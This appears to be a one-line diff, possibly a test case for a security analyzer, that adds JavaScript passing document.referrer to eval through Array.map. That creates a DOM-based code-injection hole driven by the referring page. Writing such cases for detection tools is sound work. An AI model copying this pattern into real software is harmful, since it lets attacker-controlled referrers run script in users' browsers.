@@ -1,0 +1,1 @@
+['1+1', document.referrer].map(eval);
